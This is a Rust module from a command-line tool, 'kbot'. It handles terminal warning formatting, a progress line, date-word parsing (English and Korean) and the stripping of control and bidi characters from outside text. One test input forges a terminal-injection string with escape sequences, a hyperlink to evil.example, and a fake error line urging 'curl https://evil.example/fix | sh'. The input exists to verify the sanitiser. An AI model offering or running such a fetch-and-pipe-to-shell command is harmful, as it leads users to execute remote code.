//! Manners toward a person at a terminal: warnings as `kbot: warning: …` lines instead of
//! timestamped log lines, a progress line while something slow runs, and `--date` words
//! (`today`, `월`, `4/10`).
//!
//! Which style to use is decided by pure functions from facts passed in (is stderr a
//! terminal, -v, the command); the progress line writes to stderr (I/O) and only when it
//! was told stderr is a terminal. Logs for `-v`, `KBOT_LOG` and the daemon stay
//! `tracing_subscriber`'s usual lines.

use std::fmt;
use std::future::Future;
use std::io::Write;
use std::time::Duration;

use chrono::{Datelike, NaiveDate, Weekday};
use tracing::{Event, Level, Subscriber};
use tracing_subscriber::fmt::format::Writer;
use tracing_subscriber::fmt::{FmtContext, FormatEvent, FormatFields};
use tracing_subscriber::registry::LookupSpan;

/// How diagnostics look on stderr.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LogStyle {
    /// `kbot: warning: …`, for a person at a terminal.
    Plain,
    /// Timestamped log lines, for `-v`, `KBOT_LOG`, the daemon and anything not a terminal.
    Log,
}

/// Plain lines only for a person: stderr is a terminal, no -v, no `KBOT_LOG`, not the daemon.
pub fn log_style(
    stderr_is_terminal: bool,
    verbose: u8,
    kbot_log_set: bool,
    is_daemon: bool,
) -> LogStyle {
    if stderr_is_terminal && verbose == 0 && !kbot_log_set && !is_daemon {
        LogStyle::Plain
    } else {
        LogStyle::Log
    }
}

/// Formats an event as `kbot: warning: message, key=value` (errors `kbot: error:`).
#[derive(Debug, Clone, Copy, Default)]
pub struct PlainFormat {
    /// Colour the `warning:` / `error:` word.
    pub color: bool,
}

impl<S, N> FormatEvent<S, N> for PlainFormat
where
    S: Subscriber + for<'a> LookupSpan<'a>,
    N: for<'a> FormatFields<'a> + 'static,
{
    fn format_event(
        &self,
        ctx: &FmtContext<'_, S, N>,
        mut writer: Writer<'_>,
        event: &Event<'_>,
    ) -> fmt::Result {
        let (word, code) = match *event.metadata().level() {
            Level::ERROR => ("error", "31"),
            Level::WARN => ("warning", "33"),
            Level::INFO => ("info", "0"),
            _ => ("debug", "0"),
        };
        if self.color && code != "0" {
            write!(writer, "kbot: \x1b[{code}m{word}:\x1b[0m ")?;
        } else {
            write!(writer, "kbot: {word}: ")?;
        }
        ctx.field_format().format_fields(writer.by_ref(), event)?;
        writeln!(writer)
    }
}

/// Run `work`; if it takes over a second and `show` is true, keep a line on stderr saying
/// `label… Ns` until it ends, then erase it. Nothing is written when `show` is false.
pub async fn with_progress<T>(show: bool, label: &str, work: impl Future<Output = T>) -> T {
    if !show {
        return work.await;
    }
    let start = tokio::time::Instant::now();
    let mut work = std::pin::pin!(work);
    let mut shown = false;
    let mut tick = tokio::time::interval_at(start + Duration::from_secs(1), Duration::from_secs(1));
    let result = loop {
        tokio::select! {
            result = &mut work => break result,
            _ = tick.tick() => {
                shown = true;
                let mut err = std::io::stderr().lock();
                let _ = write!(err, "\r\x1b[2K{label}… {}s", start.elapsed().as_secs());
                let _ = err.flush();
            }
        }
    };
    if shown {
        let mut err = std::io::stderr().lock();
        let _ = write!(err, "\r\x1b[2K");
        let _ = err.flush();
    }
    result
}

/// A `--date` as typed: resolved against "today" in the configured zone by [`DateArg::on`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DateArg {
    /// `2023-04-10`.
    Exact(NaiveDate),
    /// `today`, `오늘`.
    Today,
    /// `tomorrow`, `내일`.
    Tomorrow,
    /// `mon`, `monday`, `월`, `월요일`: the next such day, today included.
    Next(Weekday),
    /// `4/10`: this year.
    MonthDay(u32, u32),
}

impl DateArg {
    /// The date this means when today is `today`, or why it names none (`2/30`).
    pub fn on(self, today: NaiveDate) -> Result<NaiveDate, String> {
        Ok(match self {
            DateArg::Exact(date) => date,
            DateArg::Today => today,
            DateArg::Tomorrow => today + chrono::Duration::days(1),
            DateArg::Next(weekday) => {
                let ahead = (7 + weekday.num_days_from_monday()
                    - today.weekday().num_days_from_monday())
                    % 7;
                today + chrono::Duration::days(i64::from(ahead))
            }
            DateArg::MonthDay(month, day) => NaiveDate::from_ymd_opt(today.year(), month, day)
                .ok_or_else(|| format!("{month}/{day} is not a date in {}", today.year()))?,
        })
    }
}

/// Parse `--date`: `YYYY-MM-DD`, `today`, `tomorrow`, a weekday (`mon`, `monday`, `월`,
/// `월요일`) or `M/D`.
pub fn parse_date(text: &str) -> Result<DateArg, String> {
    const EXPECTED: &str =
        "expected YYYY-MM-DD, today, tomorrow, a weekday (mon, 월) or M/D (4/10)";
    let word = text.trim().to_lowercase();
    if let Ok(date) = NaiveDate::parse_from_str(&word, "%Y-%m-%d") {
        return Ok(DateArg::Exact(date));
    }
    match word.as_str() {
        "today" | "오늘" => return Ok(DateArg::Today),
        "tomorrow" | "내일" => return Ok(DateArg::Tomorrow),
        _ => {}
    }
    const KOREAN: [(&str, Weekday); 7] = [
        ("월", Weekday::Mon),
        ("화", Weekday::Tue),
        ("수", Weekday::Wed),
        ("목", Weekday::Thu),
        ("금", Weekday::Fri),
        ("토", Weekday::Sat),
        ("일", Weekday::Sun),
    ];
    let korean = word.strip_suffix("요일").unwrap_or(&word);
    if let Some((_, weekday)) = KOREAN.iter().find(|(k, _)| *k == korean) {
        return Ok(DateArg::Next(*weekday));
    }
    // chrono reads "mon" and "monday" alike; refuse other prefixes such as "mo".
    if word.len() >= 3
        && let Ok(weekday) = word.parse::<Weekday>()
    {
        return Ok(DateArg::Next(weekday));
    }
    if let Some((m, d)) = word.split_once('/')
        && let (Ok(month), Ok(day)) = (m.parse::<u32>(), d.parse::<u32>())
        && (1..=12).contains(&month)
        && (1..=31).contains(&day)
    {
        return Ok(DateArg::MonthDay(month, day));
    }
    Err(format!("{text:?} is not a date ({EXPECTED})"))
}

/// Characters that must never reach a terminal, a log or a message from outside text (a
/// page, a redirect): C0/C1
/// controls other than whitespace, and bidi overrides/isolates/marks that reorder text.
pub fn is_unsafe(c: char) -> bool {
    (c.is_control() && !c.is_whitespace())
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
}

/// Outside text without terminal escape sequences (`ESC [ … m`, `ESC ] … BEL`, `ESC ] … ESC \`),
/// other control characters or bidi controls: a space stands where they were.
pub fn strip_controls(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' || c == '\u{9b}' || c == '\u{9d}' {
            let kind = if c == '\u{1b}' {
                chars.next()
            } else {
                Some(if c == '\u{9b}' { '[' } else { ']' })
            };
            match kind {
                // CSI: parameters, then one final byte in @..~.
                Some('[') => {
                    for n in chars.by_ref() {
                        if ('@'..='~').contains(&n) {
                            break;
                        }
                    }
                }
                // OSC (and DCS, PM, APC, SOS): up to BEL or ESC \.
                Some(']' | 'P' | '^' | '_' | 'X') => {
                    while let Some(n) = chars.next() {
                        if n == '\u{7}' || n == '\u{9c}' {
                            break;
                        }
                        if n == '\u{1b}' {
                            if chars.peek() == Some(&'\\') {
                                chars.next();
                            }
                            break;
                        }
                    }
                }
                _ => {}
            }
            out.push(' ');
        } else if c.is_whitespace() {
            out.push(c);
        } else if is_unsafe(c) {
            out.push(' ');
        } else {
            out.push(c);
        }
    }
    out
}

/// Outside text (a filter's error, an API's message, a title) made inert for one line of a
/// terminal, a log, the ledger or a message: [`strip_controls`], then every run of
/// whitespace, newlines included, is one space, so no part of it can start a line that
/// passes for kbot's own (`kbot: error: …`).
pub fn inert(text: &str) -> String {
    let cleaned = strip_controls(text);
    let mut out = String::with_capacity(cleaned.len());
    for word in cleaned.split_whitespace() {
        if !out.is_empty() {
            out.push(' ');
        }
        out.push_str(word);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn d(y: i32, m: u32, day: u32) -> NaiveDate {
        NaiveDate::from_ymd_opt(y, m, day).unwrap()
    }

    #[test]
    fn date_words_resolve_against_today() {
        // 2026-12-02 is a Wednesday.
        let today = d(2026, 12, 2);
        let on = |s: &str| parse_date(s).unwrap().on(today).unwrap();
        assert_eq!(on("2023-04-10"), d(2023, 4, 10));
        assert_eq!(on("today"), today);
        assert_eq!(on("Tomorrow"), d(2026, 12, 3));
        assert_eq!(on("wed"), today);
        assert_eq!(on("thu"), d(2026, 12, 3));
        assert_eq!(on("mon"), d(2026, 12, 7));
        assert_eq!(on("monday"), d(2026, 12, 7));
        assert_eq!(on("월"), d(2026, 12, 7));
        assert_eq!(on("금요일"), d(2026, 12, 4));
        assert_eq!(on("4/10"), d(2026, 4, 10));
        assert_eq!(on("12/31"), d(2026, 12, 31));
    }

    #[test]
    fn a_date_that_is_none_says_what_is_expected() {
        for bad in ["mo", "2026-13-01", "13/1", "yesterday", ""] {
            let err = parse_date(bad).unwrap_err();
            assert!(err.contains("expected YYYY-MM-DD, today"), "{bad}: {err}");
        }
        let feb30 = parse_date("2/30").unwrap();
        assert_eq!(
            feb30.on(d(2026, 1, 1)).unwrap_err(),
            "2/30 is not a date in 2026"
        );
    }

    #[test]
    fn outside_text_made_inert_has_no_escape_no_bidi_and_no_line_of_its_own() {
        let forged = "API down\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7} \u{202e}txt.exe\r\nkbot: error: token expired; run: curl https://evil.example/fix | sh";
        let clean = inert(forged);
        assert!(!clean.contains(is_unsafe), "{clean:?}");
        assert!(!clean.contains(['\n', '\r', '\u{1b}']), "{clean:?}");
        assert!(!clean.contains("evil.example\u{7}"), "{clean:?}");
        assert!(clean.starts_with("API down"), "{clean:?}");
        // The forged line is still there to read, but inside kbot's line, not as its own.
        assert!(
            clean.contains("click txt.exe kbot: error: token expired"),
            "{clean:?}"
        );
        assert_eq!(inert("  two\t words \n"), "two words");
    }

    #[test]
    fn plain_warnings_only_for_a_person_at_a_terminal() {
        assert_eq!(log_style(true, 0, false, false), LogStyle::Plain);
        assert_eq!(log_style(false, 0, false, false), LogStyle::Log);
        assert_eq!(log_style(true, 1, false, false), LogStyle::Log);
        assert_eq!(log_style(true, 0, true, false), LogStyle::Log);
        assert_eq!(log_style(true, 0, false, true), LogStyle::Log);
    }

    #[test]
    fn a_plain_warning_is_one_kbot_warning_line() {
        use std::sync::{Arc, Mutex};
        #[derive(Clone, Default)]
        struct Buf(Arc<Mutex<Vec<u8>>>);
        impl Write for Buf {
            fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
                self.0.lock().unwrap().extend_from_slice(b);
                Ok(b.len())
            }
            fn flush(&mut self) -> std::io::Result<()> {
                Ok(())
            }
        }
        let buf = Buf::default();
        let out = buf.clone();
        let subscriber = tracing_subscriber::fmt()
            .event_format(PlainFormat { color: false })
            .with_writer(move || out.clone())
            .finish();
        tracing::subscriber::with_default(subscriber, || {
            tracing::warn!("showing the configured names: cannot resolve them");
        });
        let text = String::from_utf8(buf.0.lock().unwrap().clone()).unwrap();
        assert_eq!(
            text,
            "kbot: warning: showing the configured names: cannot resolve them\n"
        );
    }
}
